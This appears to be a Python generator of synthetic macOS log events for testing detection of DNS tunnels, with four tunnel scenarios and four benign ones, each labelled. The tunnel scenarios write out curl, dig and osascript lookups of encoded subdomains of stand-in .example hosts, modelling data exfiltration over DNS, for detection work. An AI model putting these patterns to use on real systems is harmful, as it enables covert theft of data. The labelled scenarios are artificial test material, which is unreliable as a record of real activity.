# SPDX-License-Identifier: Apache-2.0
"""What is told: tunnels by programs of a Mac, and ordinary days that look like some.

An event is a dict: "ask" (a program asks mDNSResponder), "start" (a program is started) or "say"
(another message in the log). Each scenario is a function that lets things happen between BEGIN and
BEGIN + hours; behind it runs the same background. How events are written down is macos_encode.py's.
"""

import base64
import datetime
import random

BEGIN = datetime.datetime(2026, 11, 3, 9, 0, 0, tzinfo=datetime.timezone.utc)
HOST = "mac7.corp.example"
SITES = """
www.google.com fonts.gstatic.com www.youtube.com i.ytimg.com www.wikipedia.org github.com
avatars.githubusercontent.com stackoverflow.com cdn.sstatic.net www.bbc.co.uk ichef.bbci.co.uk
www.nytimes.com static01.nyt.com www.linkedin.com static.licdn.com www.amazon.com
m.media-amazon.com www.reddit.com cdn.jsdelivr.net www.googletagmanager.com js.stripe.com
unpkg.com accounts.google.com www.heise.de news.ycombinator.com
""".split()
APPLE = """
gateway.icloud.com p66-contacts.icloud.com p66-caldav.icloud.com api.apple-cloudkit.com
configuration.apple.com gsp-ssl.ls.apple.com time.apple.com ocsp2.apple.com
init.push.apple.com 1-courier.push.apple.com bag.itunes.apple.com mesu.apple.com
""".split()
BACKGROUND = [
    ("apsd", "/System/Library/PrivateFrameworks/ApplePushService.framework/apsd", 900),
    ("cloudd", "/System/Library/PrivateFrameworks/CloudKitDaemon.framework/cloudd", 400),
    ("timed", "/usr/libexec/timed", 1800),
    ("trustd", "/usr/libexec/trustd", 600),
    ("geod", "/System/Library/PrivateFrameworks/GeoServices.framework/geod", 1200),
    ("nsurlsessiond", "/usr/libexec/nsurlsessiond", 700),
]
SAFARI = "/System/Library/StagedFrameworks/Safari/com.apple.WebKit.Networking"


def encoded(rng, n):
    """n bytes as a label fit for a name."""
    return base64.b32encode(rng.randbytes(n)).decode().rstrip("=").lower()


class Mac:
    """The machine, its clock in seconds since BEGIN, and all that happened."""

    def __init__(self, rng, hours):
        self.rng = rng
        self.seconds = hours * 3600
        self.events = []
        self.pids = {}

    def pid(self, program):
        return self.pids.setdefault(program, self.rng.randrange(300, 60000))

    def add(self, at, event):
        event["time"] = BEGIN + datetime.timedelta(seconds=round(at, 6))
        self.events.append(event)

    def ask(self, at, comm, name, qtype=None, pid=None, delegator=None):
        """@qtype None: getaddrinfo, which asks for all addresses."""
        self.add(at, {"kind": "ask", "comm": comm, "name": name, "qtype": qtype,
                      "pid": pid or self.pid(comm), "delegator": delegator})

    def start(self, at, path, args, caller, pid=None, tty=None, uid=501):
        self.add(at, {"kind": "start", "path": path, "args": args, "caller": caller, "tty": tty,
                      "pid": pid or self.rng.randrange(300, 99999), "uid": uid, "ppid": 1})

    def every(self, mean_s, jitter=0.5):
        """Times, @mean_s apart and off by up to @jitter of it."""
        at = self.rng.random() * mean_s
        while at < self.seconds:
            yield at
            at += mean_s * (1 + self.rng.uniform(-jitter, jitter))


def background(mac):
    for comm, path, mean_s in BACKGROUND:
        mac.start(mac.rng.random(), path, [path], "/usr/libexec/xpcproxy", mac.pid(comm), uid=0)
        for at in mac.every(mean_s):
            mac.ask(at, comm, mac.rng.choice(APPLE), mac.rng.choice([None, "HTTPS"]))
    for at in mac.every(240):
        for i in range(mac.rng.randrange(1, 6)):
            mac.ask(at + i / 50, "com.apple.WebKit.Networking", mac.rng.choice(SITES),
                    mac.rng.choice(["A", "AAAA", "HTTPS", None]))
    for at in mac.every(30):
        mac.add(at, {"kind": "say", "comm": "kernel", "path": "/kernel", "pid": 0,
                     "text": "flow_entry_alloc fe 0 proc kernel_task(0) ipver=4"})
    for at in mac.every(300):
        mac.ask(at, "mDNSResponderHelper", "_companion-link._tcp.local", "PTR")
        path = mac.rng.choice(["/bin/ls", "/usr/bin/mdutil", "/usr/bin/defaults"])
        mac.start(at, path, [path.rsplit("/", 1)[1], "-a"], "/bin/zsh", tty="/dev/ttys000")


# ---------------------------------------------------------------- tunnels

def osascript_loop(mac):
    """AppleScript that asks for one encoded name after the other."""
    mac.start(600, "/usr/bin/osascript", ["osascript", "/Users/u/Library/x.scpt"], "/bin/sh",
              mac.pid("osascript"))
    at = 601
    while at < 601 + 1500:
        payload = f"{encoded(mac.rng, 30)}.{encoded(mac.rng, 12)}"
        mac.ask(at, "osascript", f"{payload}.t.lanternfish.example")
        at += mac.rng.uniform(0.5, 3)
    return "lanternfish.example", "osascript"


def curl_launchd(mac):
    """A launchd job that has curl fetch from a new host name for each piece of a file."""
    for i, at in enumerate(mac.every(12, 0.3)):
        name = f"{i:04x}{encoded(mac.rng, 25)}.x.paperboat.example"
        pid = mac.rng.randrange(300, 99999)
        mac.start(at, "/usr/bin/curl", ["curl", "-s", f"https://{name}/"],
                  "/usr/libexec/xpcproxy", pid, uid=0)
        mac.ask(at + 0.02, "curl", name, pid=pid)
    return "paperboat.example", "curl"


def python_beacon(mac):
    """Python that asks for a TXT record every minute, give or take 30 %."""
    mac.start(60, "/usr/bin/python3", ["python3", "-c", "import x"], "/bin/sh", mac.pid("Python"))
    for at in mac.every(60, 0.3):
        mac.ask(at, "Python", f"{encoded(mac.rng, 20)}.c.tidepool.example", "TXT")
    return "tidepool.example", "Python"


def cron_dig(mac):
    """A line of crontab that has dig carry a piece of a file every minute; dig has a resolver of
    its own, so that only its starts are seen."""
    for at in mac.every(60, 0.02):
        mac.start(at, "/bin/sh", ["sh", "-c", "/Users/u/.x.sh"], "/usr/sbin/cron")
        for i in range(4):
            name = f"{encoded(mac.rng, 30)}.d.glasswing.example"
            mac.start(at + 0.2 * i, "/usr/bin/dig", ["dig", "+short", "TXT", name], "/bin/sh")
    return "glasswing.example", "/usr/bin/dig"


# ----------------------------------------------------------- ordinary days

def busy_responder(mac):
    """Many programs, many names, none of them strange."""
    for program in ("Mail", "Slack Helper", "Teams", "Dropbox", "Spotify", "zoom.us"):
        for at in mac.every(25):
            mac.ask(at, program, mac.rng.choice(SITES + APPLE), mac.rng.choice(["A", "AAAA", None]))
    return None, "mDNSResponder"


def browser(mac):
    """An afternoon of reading: bursts of names of many sites, some with numbers in front."""
    for at in mac.every(20):
        site = f"site{mac.rng.randrange(400)}.example"
        for i in range(mac.rng.randrange(3, 15)):
            numbered = f"e{mac.rng.randrange(40)}"
            host = mac.rng.choice(["www", "cdn", "img", "api", "static", numbered])
            mac.ask(at + i / 40, "com.apple.WebKit.Networking", f"{host}.{site}",
                    mac.rng.choice(["A", "AAAA", "HTTPS"]), delegator=("Safari", mac.pid("Safari")))
    return None, "com.apple.WebKit.Networking"


def software_update(mac):
    """A system update: the same few hosts, over and over, for hours."""
    for comm in ("softwareupdated", "nsurlsessiond"):
        for at in mac.every(15):
            mac.ask(at, comm, mac.rng.choice([
                "swscan.apple.com", "swcdn.apple.com", "updates.cdn-apple.com", "gdmf.apple.com",
                "updates-http.cdn-apple.com", "oscdn.apple.com", "xp.apple.com"]))
    return None, "softwareupdated"


def content_network(mac):
    """Spotlight and photos from a content network whose names are digests, a few hundred of them,
    asked again and again."""
    letters = "0123456789abcdefghijklmnopqrstuvwxyz"
    names = ["d" + "".join(mac.rng.choice(letters) for _ in range(13)) + ".cloudfront.net"
             for _ in range(60)]
    for comm in ("Spotlight", "photoanalysisd", "parsecd"):
        for at in mac.every(60):
            mac.ask(at, comm, mac.rng.choice(names), mac.rng.choice(["A", "AAAA"]))
    return None, "Spotlight"


TUNNELS = {f.__name__: f for f in (osascript_loop, curl_launchd, python_beacon, cron_dig)}
ORDINARY = {f.__name__: f for f in (busy_responder, browser, software_update, content_network)}


def make(name, hours, seed):
    """The events of a scenario in the order of time, and what there is to find."""
    rng = random.Random(f"{name}/{seed}")
    mac = Mac(rng, hours)
    domain, image = {**TUNNELS, **ORDINARY}[name](mac)
    background(mac)
    mac.events.sort(key=lambda e: e["time"])
    found = {"scenario": name, "label": "tunnel" if domain else "benign", "host": HOST,
             "image": image, "domain": domain or "-"}
    return mac.events, found
